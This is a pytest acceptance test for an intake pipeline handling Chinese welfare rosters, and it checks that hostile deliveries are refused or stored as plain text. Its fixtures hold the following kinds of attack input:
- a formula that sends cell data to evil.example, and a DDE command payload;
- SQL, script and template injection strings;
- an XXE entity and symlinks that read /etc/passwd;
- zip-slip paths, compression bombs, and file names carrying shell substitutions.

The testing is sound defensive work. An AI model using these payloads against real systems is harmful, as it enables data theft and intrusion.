"""One night over an inbox that holds every kind of hostile delivery beside good ones."""

import csv
import io
import os
import re
import zipfile
from collections.abc import Mapping, Sequence

import duckdb
import polars as pl
import pytest
import xlsxwriter
import xlwt

from acceptance.inbox import District, Told, packed, person
from huimin.contracts.contract import Column, Contract
from huimin.identity import mask_ids_in
from huimin.report.query import rendered, select
from huimin.store.names import shown
from nights import PROJECT

ELDERLY = "elderly_allowance"
HEAD = "姓名,身份证号,街道,发放金额,发放月份"
GOOD_ROWS = [f"张三,{person(n)},东街,100,2023-08" for n in range(900, 910)]
ROW, OTHER = (f"王五,{person(n)},东街,100,2023-08" for n in (500, 501))
TABLE = f"{HEAD}\n{ROW}\n{OTHER}\n"

INJECTIONS = (
    "=cmd|'/c calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(1)", "\tx",
    "'; DROP TABLE clues; --", "x' OR '1'='1", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "</td></tr></table>&lt;&#x3C;", "${7*7}{{7*7}}{%x%}", "../../etc/passwd", "[link=http://evil.example]x[/link]",
    "\u202egnirts\u202c", "a\u200b\u200d\ufeffb", "\U0001f9e8\U00020000", "a\u2028b", "\x1b[31mred", '{"a": "b"}\\',
    "%s%n{0}",
)  # fmt: skip


def sheet(lines: Sequence[Sequence[object]], **options: object) -> bytes:
    """An .xlsx of one sheet; a cell that begins with `=` is a formula without a cached value."""
    sink = io.BytesIO()
    book = xlsxwriter.Workbook(sink, {"in_memory": True, **options})
    page = book.add_worksheet("八月")
    for row, line in enumerate(lines):
        for column, value in enumerate(line):
            page.write(row, column, value)
    book.close()
    return sink.getvalue()


def old_sheet(lines: Sequence[Sequence[object]]) -> bytes:
    """An .xls of one sheet."""
    book = xlwt.Workbook(encoding="utf-8")
    page = book.add_sheet("八月")
    for row, line in enumerate(lines):
        for column, value in enumerate(line):
            page.write(row, column, value)
    sink = io.BytesIO()
    book.save(sink)
    return sink.getvalue()


def grid(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def remade(content: bytes, changes: Mapping[str, tuple[bytes, bytes] | bytes]) -> bytes:
    """The workbook with parts changed (old, new bytes) or added."""
    sink = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED) as target:
        for entry in source.infolist():
            part, change = source.read(entry), changes.get(entry.filename)
            if isinstance(change, tuple):
                assert change[0] in part
                part = part.replace(*change)
            target.writestr(entry.filename, part)
        for name, change in changes.items():
            if isinstance(change, bytes):
                target.writestr(name, change)
    return sink.getvalue()


def deflated(members: Mapping[str, bytes]) -> bytes:
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return sink.getvalue()


def with_password(content: bytes) -> bytes:
    """The zip with the flag of an encrypted member, in both places."""
    raw = bytearray(content)
    raw[6] |= 1
    raw[raw.index(b"PK\x01\x02") + 8] |= 1
    return bytes(raw)


def locked(content: bytes) -> bytes:
    """The old workbook with the stream name of an encrypted new one."""
    return content.replace("Workbook".encode("utf-16-le"), "EncryptedPackage".encode("utf-16-le")[:32], 1)


def linked(name: str, target: str) -> bytes:
    """A zip whose member is a symbolic link."""
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w") as archive:
        entry = zipfile.ZipInfo(name)
        entry.create_system, entry.external_attr = 3, 0o120777 << 16
        archive.writestr(entry, target)
        archive.writestr("好.csv", TABLE)
    return sink.getvalue()


BOOK = sheet(grid(TABLE))
OLD_BOOK = old_sheet(grid(TABLE))
SHEET_XML = "xl/worksheets/sheet1.xml"
HUGE = deflated({"八月.csv": (HEAD + "\n").encode() + b" " * 30_000_000})
VAST_STRINGS = remade(BOOK, {"xl/bomb.xml": b"<x>" + b" " * 300_000_000})

END = b"</sheetData>"
FAR = b'<row r="1048576"><c r="A1048576" t="inlineStr"><is><t> </t></is></c></row>'
BLANK = b"".join(b'<row r="%d"/>' % row for row in range(4, 1_000_004))
LINK = b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
ENTITIES = b'<!DOCTYPE x [<!ENTITY a "b"><!ENTITY c SYSTEM "file:///etc/passwd">]><x>&c;</x>'
UNCACHED = sheet([HEAD.split(","), ["王五", person(500), "东街", "=1+1", "2023-08"]])
LONG = sheet([*grid(TABLE), ["赵六", person(502), "LONG", "1", "2023-08"]])
FORMULA = ["赵六", person(502), '=CONCATENATE("a")', 100, "2023-08"]

REFUSED: dict[str, tuple[bytes, str]] = {
    "empty.csv": (b"", "空"),
    "empty.xlsx": (b"", "空"),
    "empty.zip": (b"", "空"),
    "blank.csv": (b" \n\n \n", "没有内容"),
    "header_only.csv": (f"{HEAD}\n".encode(), "没有数据行"),
    "header_only.xlsx": (sheet([HEAD.split(",")]), "没有数据行"),
    "no_header.csv": (f"{ROW}\n{OTHER}\n".encode(), "没有找到表头"),
    "wrong_roster.csv": (f"户号,姓名,身份证号,户籍状态\n1,王五,{person(500)},正常\n".encode(), "缺少必需的列"),
    "two_headers.csv": (f"{HEAD},金额\n{ROW},1\n".encode(), "都对应"),
    "missing_column.csv": (f"姓名,身份证号,发放月份\n王五,{person(500)},2023-08\n".encode(), "发放金额（amount）"),
    "no_period.csv": (f"姓名,身份证号,发放金额\n王五,{person(500)},1\n".encode(), "找不到月份"),
    "junk.csv": (bytes(range(256)) * 64, "编码"),
    "junk.xlsx": (bytes(range(256)) * 64, "打不开"),
    "junk.xls": (bytes(range(256)) * 64, "打不开"),
    "junk.zip": (b"PK\x03\x04" + b"\xff" * 999, "打不开"),
    "html.xls": (b"<html><body><table><tr><td>x</td></tr></table></body></html>", "网页"),
    "html.xlsx": (b"\xef\xbb\xbf\n<!DOCTYPE html><table></table>", "网页"),
    "image.xlsx": (b"\x89PNG\r\n\x1a\n" + bytes(99), "打不开"),
    "page.pdf": (b"%PDF-1.4", "不支持的文件类型"),
    "noending": (TABLE.encode(), "不支持的文件类型"),
    "truncated.xlsx": (BOOK[: len(BOOK) // 2], "打不开"),
    "truncated.xls": (OLD_BOOK[: len(OLD_BOOK) // 2], "打不开"),
    "truncated.zip": (packed({"a.csv": TABLE})[:-30], "打不开"),
    "bomb.zip": (HUGE, "100 倍"),
    "bomb.xlsx": (VAST_STRINGS, "100 倍"),
    "hollow.zip": (packed({}), "没有文件"),
    "members.zip": (packed({f"{n}.csv": "" for n in range(1001)}), "1000 个文件"),
    "locked.xls": (locked(OLD_BOOK), "密码"),
    "locked.zip/a.csv": (with_password(packed({"a.csv": TABLE})), "密码"),
    "nested.zip/inner.zip": (packed({"inner.zip": packed({"a.csv": TABLE})}), "还有压缩包"),
    "climbing.zip/第1个文件": (packed({"../../evil.csv": TABLE}), "之外"),
    "absolute.zip/第1个文件": (packed({"/etc/evil.csv": TABLE}), "之外"),
    "drive.zip/第1个文件": (packed({"C:\\evil.csv": TABLE}), "之外"),
    "link.zip/link.csv": (linked("link.csv", "/etc/passwd"), "符号链接"),
    "formula_only.xlsx": (remade(UNCACHED, {SHEET_XML: (b"</f><v>0</v>", b"</f>")}), "formula_not_calculated 1 行"),
    "two_encodings.csv": (f"{HEAD}\n{ROW}\n".encode() + (b"\xff\xff\n" + OTHER.encode("gb18030")) * 3, "表头|编码"),
    "utf16_without_mark.csv": (TABLE.encode("utf-16-le"), "没有找到表头|编码"),
    "sealed.csv": (TABLE.encode(), "无读取权限"),
    "folder.csv/inner/deep.csv": (TABLE.encode(), "文件夹"),
}  # fmt: skip

ACCEPTED: dict[str, tuple[bytes, str]] = {
    "million_empty_rows.xlsx": (remade(BOOK, {SHEET_XML: (END, BLANK + END)}), "3 = 1 + 2 + 0"),
    "far_away_cell.xlsx": (remade(BOOK, {SHEET_XML: (END, FAR + END)}), "3 = 1 + 2 + 0"),
    "million_empty_lines.csv": (TABLE.encode() + b"\n" * 1_000_000, "1000003 = 1000001 + 2 + 0"),
    "million_empty_cells.csv": (TABLE.encode() + b",,,,\n" * 200_000, "200003 = 200001 + 2 + 0"),
    "workbook.csv": (BOOK, "3 = 1 + 2 + 0"),
    "formulas.xlsx": (sheet([*grid(TABLE), FORMULA]), "4 = 1 + 3 + 0"),
    "macros.xlsx": (remade(BOOK, {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"junk" * 99}), "3 = 1 + 2 + 0"),
    "external.xlsx": (remade(BOOK, {"xl/externalLinks/externalLink1.xml": LINK}), "3 = 1 + 2 + 0"),
    "entities.xlsx": (remade(BOOK, {"docProps/bomb.xml": ENTITIES}), "3 = 1 + 2 + 0"),
    "unterminated.csv": (f'{HEAD}\n"{ROW}\n{OTHER}\n'.encode(), "3 = 1 + 1 + 1"),
    "nul.csv": (f"{HEAD}\n{ROW}\n{OTHER}\x00\n".encode(), "3 = 1 + 1 + 1"),
    "line_ends.csv": (f"{HEAD}\r\n{ROW}\r{OTHER}\n\r\n".encode(), "4 = 2 + 2 + 0"),
    "ragged.csv": (f"{HEAD}\n{ROW}\n王五,{person(501)}\n{OTHER},,,\n{OTHER},x,y\n".encode(), "5 = 1 + 2 + 2"),
    "mixed_encodings.csv": (TABLE.encode() + "李四\n".encode("gb18030") + b"\xff\xff\n", "5 = 1 + 2 + 2"),
    "surrogates.csv": (TABLE.encode() + b"\xed\xa0\x80\xed\xa0\x80,\xff\n", "4 = 1 + 2 + 1"),
    "one_bad_byte.csv": (f"{HEAD}\n{ROW}\n".encode("gb18030") + b"\xff" + OTHER.encode("gb18030"), "3 = 1 + 1 + 1"),
    "lines_in_cells.csv": (
        f'{HEAD},备注\n"王\n五",{person(501)},东街,1,2023-08,"一\n\n二"\n{ROW},\n'.encode(), "3 = 1 + 2 + 0"
    ),
    "open_quotes.csv": (f'{HEAD}\n"{ROW}\n{OTHER}\n赵六,"{person(502)}\n{ROW}\n'.encode(), "5 = 1 + 2 + 2"),
    "broken_quotes.csv": (f'{HEAD}\n"王"{ROW}\n{OTHER}\n'.encode(), "3 = 1 + 1 + 1"),
    "moved.csv": (f"{HEAD},备注,开户银行\n{ROW},,寄,\n{OTHER},寄,农行\n".encode(), "3 = 1 + 1 + 1"),
    "megabyte.csv": (f"{HEAD}\n{ROW}\n王五,{person(501)},{'东' * 1_000_000},1,2023-08\n".encode(), "3 = 1 + 1 + 1"),
    "megabyte.xlsx": (remade(LONG, {"xl/sharedStrings.xml": (b"LONG", b"x" * 1_000_000)}), "4 = 1 + 2 + 1"),
    "gb18030.csv": (f"{HEAD}\n㐀𠀀𬀩,{person(500)},龦街,1,2023-08\n".encode("gb18030"), "2 = 1 + 1 + 0"),
    "utf16.csv": (TABLE.encode("utf-16"), "3 = 1 + 2 + 0"),
    "scripts.csv": (
        f"{HEAD}\n\u202e五王\u202c,\u200b{person(500)}\ufeff,مرحبا,１００,2023\u200b-08\n".encode(),
        "2 = 1 + 1 + 0",
    ),
    "surrogates.xlsx": (sheet([*grid(HEAD), ["王_xD800_五", person(500), "_xDFFF_", "1", "2023-08"]]), "2 = 1 + 1 + 0"),
    "name\nwith\r\nlines.csv": (TABLE.encode(), "3 = 1 + 2 + 0"),
    "'quotes\"`;--.csv": (TABLE.encode(), "3 = 1 + 2 + 0"),
    "<script>alert('file')<\u2215script>.csv": (TABLE.encode(), "3 = 1 + 2 + 0"),
    "=cmd|'calc'!A0.csv": (TABLE.encode(), "3 = 1 + 2 + 0"),
    "\U0001f9e8\u202e爆竹.csv": (TABLE.encode(), "3 = 1 + 2 + 0"),
    "%s{0}$(id)`id`&&.csv": (TABLE.encode(), "3 = 1 + 2 + 0"),
    "folder.csv/inside.csv": (TABLE.encode(), "3 = 1 + 2 + 0"),
    "good_member.zip/好.csv": (packed({"../evil.csv": TABLE, "好.csv": TABLE}), "3 = 1 + 2 + 0"),
    f"{person(503)}.csv": (TABLE.encode(), "3 = 1 + 2 + 0"),
}  # fmt: skip

PLAIN = {
    "id_number": person(600), "date": "2023-06-15", "month": "2023-08", "year": "2023", "term": "2023-spring",
    "money": "100", "integer": "1", "decimal": "1", "account": "6222000000000001",
}  # fmt: skip
MOST = {"money": "999999999999.99", "integer": "2147483647", "decimal": "9999999999.9999", "account": "9" * 400}
LATEST = {"date": "9999-12-31", "month": "9999-12", "year": "9999", "term": "9999-autumn"}
EARLIEST = {"date": "0001-01-01", "month": "0001-01", "year": "0001", "term": "0001-spring"}
LEAST = {"money": "-999999999999.99", "integer": "-2147483648", "decimal": "-9999999999.9999"}


def usual(column: Column, text: str, number: int) -> str:
    """A cell that its column takes, or the text where any will do."""
    if column.type.name == "id_number":
        return person(number)
    if column.type.name == "category":
        return column.values[0]
    return PLAIN.get(column.type.name, text)


def injected(contract: Contract) -> tuple[str, int]:
    """A delivery of the roster with each text in every column, and how many rows it must lose."""
    titles = [column.titles[0] for column in contract.columns]
    lines, strict = [titles], [c for c in contract.columns if c.required and c.type.name in {*PLAIN, "category"}]
    for number, text in enumerate(INJECTIONS):
        lines.append([usual(column, text, number) if column in strict else text for column in contract.columns])
    lines += [[INJECTIONS[6] if c is column else usual(c, "x", 0) for c in contract.columns] for column in strict]
    sink = io.StringIO()
    csv.writer(sink, lineterminator="\n").writerows(lines)
    return sink.getvalue(), len(strict)


def absurd(contract: Contract) -> str:
    """A delivery of the roster with the largest, latest, earliest and least values, for one person and several."""
    lines = [[column.titles[0] for column in contract.columns]]
    kinds = (MOST, MOST, LATEST, EARLIEST, LEAST, MOST | LATEST, MOST | EARLIEST)
    lines += [
        [extremes.get(c.type.name, usual(c, f"x{number}", who)) for c in contract.columns]
        for number, extremes in enumerate(kinds)
        for who in (0, number)
    ]
    sink = io.StringIO()
    csv.writer(sink, lineterminator="\n").writerows(lines)
    return sink.getvalue()


def place(number: int, file: str) -> str:
    """Where the file goes: each in a unit of its own, so that none replaces another."""
    first = file.split("/", maxsplit=1)[0]
    if first.endswith(".zip"):
        return f"{ELDERLY}/u{number}/{first}"
    return f"{ELDERLY}/{file}" if "/" in file else f"{ELDERLY}/u{number}/{file}"


@pytest.fixture(scope="module")
def told(tmp_path_factory: pytest.TempPathFactory) -> Told:
    """The night."""
    district = District(tmp_path_factory.mktemp("hostile"))
    for number, (file, (content, _)) in enumerate({**REFUSED, **ACCEPTED}.items()):
        district.put(place(number, file), content)
    for roster, contract in PROJECT.contracts.items():
        district.put(f"{roster}/injected/injected_{roster}.csv", injected(contract)[0])
        district.put(f"{roster}/absurd/absurd_{roster}.csv", absurd(contract))
    district.put(f"{ELDERLY}/好.csv", "\n".join([HEAD, *GOOD_ROWS]))
    died = "\n".join(f"张三,{person(n)},2023-01-05,公安" for n in range(900, 910))
    district.put("deaths/好.csv", f"姓名,身份证号,死亡日期,信息来源\n{died}\n")
    district.put("<b>no_such\nroster</b>/a.csv", TABLE)
    district.put("loose.csv", TABLE)
    inbox = district.root.inbox
    (inbox / ELDERLY / "link.csv").symlink_to("/etc/passwd")
    (inbox / ELDERLY / "folder_link").symlink_to("/etc")
    (inbox / "linked_roster").symlink_to("/etc")
    os.mkfifo(inbox / ELDERLY / "pipe.csv")
    os.mkfifo(inbox / "pipe.csv")
    (inbox / ELDERLY / "empty_folder.xlsx").mkdir()
    (inbox / "deaths.csv").mkdir()
    with pytest.MonkeyPatch.context() as patch:
        seal(patch, "sealed.csv")
        return district.run()


def seal(patch: pytest.MonkeyPatch, name: str) -> None:
    """No file of that name opens: the tests' user may be one whom no permission stops."""
    opened = os.open

    def sealed(path: object, *words: object, **named: object) -> int:
        if isinstance(path, str | bytes | os.PathLike) and os.fsdecode(path).rsplit("/", 1)[-1] == name:
            raise PermissionError(13, "Permission denied")
        return opened(path, *words, **named)

    patch.setattr(os, "open", sealed)


@pytest.mark.parametrize("file", REFUSED)
def test_what_cannot_be_used_is_refused_in_plain_words(told: Told, file: str) -> None:
    problem = told.refusal(file.rsplit("/", 1)[-1] if file.startswith("folder") else file)
    assert re.search(REFUSED[file][1], problem), problem
    assert "程序出错" not in problem
    assert not re.search(r"[0-9]{15}|王五", problem)


@pytest.mark.parametrize("file", ACCEPTED)
def test_what_can_be_used_is_accepted_to_the_row(told: Told, file: str) -> None:
    name = shown(mask_ids_in(file.rsplit("/", maxsplit=1)[-1] if file.startswith("folder") else file))
    found = told.deliveries.filter(pl.col("file").str.ends_with(name[-12:]))
    assert told.account(name) == ACCEPTED[file][1], found.to_dicts()


def test_the_good_ones_go_on(told: Told) -> None:
    assert set(told.deliveries.filter(pl.col("file") == "好.csv")["status"]) == {"accepted"}
    found = told.clues("deceased").filter(pl.col("item") == ELDERLY, pl.col("amount_at_risk") == 100)
    assert found.height >= 10


def test_places_that_are_no_files_are_refused(told: Told) -> None:
    problems = dict(told.deliveries.select("file", "problem").rows())
    for name in ("link.csv", "folder_link", "pipe.csv", "linked_roster"):
        assert any(said in problems[name] for said in ("普通文件", "符号链接", "直接放在收件箱"))
    assert "直接放在收件箱" in problems["loose.csv"]
    assert "没有名为" in problems["a.csv"]
    assert told.deliveries.filter(pl.col("file") == "pipe.csv").height == 2


def test_every_file_has_an_outcome_and_every_row_is_accounted_for(told: Told) -> None:
    counted = told.deliveries.with_columns(
        odd=pl.col("rows_in_file") - pl.col("rows_layout") - pl.col("rows_accepted") - pl.col("rows_rejected")
    )
    assert set(counted["odd"]) == {0}
    files = [entry for entry in told.root.inbox.rglob("*") if entry.is_symlink() or not entry.is_dir()]
    zips = [entry for entry in files if entry.suffix == ".zip"]
    assert told.deliveries.height >= len(files) - len(zips)
    assert not told.deliveries.filter(pl.col("problem").str.contains("程序出错")).height


def test_hostile_cells_are_kept_as_text(told: Told) -> None:
    for roster, contract in PROJECT.contracts.items():
        row = told.of(f"injected_{roster}.csv")
        lost = injected(contract)[1]
        assert (row["rows_accepted"], row["rows_rejected"]) == (len(INJECTIONS), lost), roster
        absurdity = told.of(f"absurd_{roster}.csv")
        assert absurdity["status"].startswith("accepted"), (roster, absurdity["problem"])


def test_no_hostile_text_is_markup_in_a_page(told: Told) -> None:
    for page in told.published.folder.rglob("*.html"):
        html = page.read_text()
        assert "<script>alert" not in html
        assert "<img src=x" not in html
        assert "<b>no_such" not in html
        assert "</table>&lt;&#x3C;" not in html


def test_the_database_and_its_exports_hold_hostile_text_as_text(told: Told) -> None:
    database = told.published.folder / "clues.duckdb"
    with duckdb.connect(database, read_only=True) as con:
        tables = [name for (name,) in con.execute("select table_name from information_schema.tables").fetchall()]
        assert "clues" in tables
    for name in ("clues", "deliveries", "evidence", "statistics"):
        rows = select(database, f"from {name}")
        written = b"".join(rendered(rows, "csv")).decode()
        read = list(csv.reader(io.StringIO(written, newline="")))
        assert len(read) == rows.num_rows + 1
        assert {len(line) for line in read} == {rows.num_columns}
        numbers = re.compile(r"-?[0-9.e+-]+")
        starts = {cell[0] for line in read for cell in line if cell and not numbers.fullmatch(cell)}
        assert not starts & set("=+-@\t\r"), name


def test_nothing_published_holds_an_id_number(told: Told) -> None:
    database = told.published.folder / "clues.duckdb"
    for name in ("clues", "deliveries", "evidence", "reject_reasons", "quality"):
        text = b"".join(rendered(select(database, f"from {name}"), "csv")).decode()
        assert not re.search("429999[0-9]{11}[0-9X]", text), name
    for page in told.published.folder.rglob("*.html"):
        assert not re.search("429999[0-9]{11}[0-9X]", page.read_text())
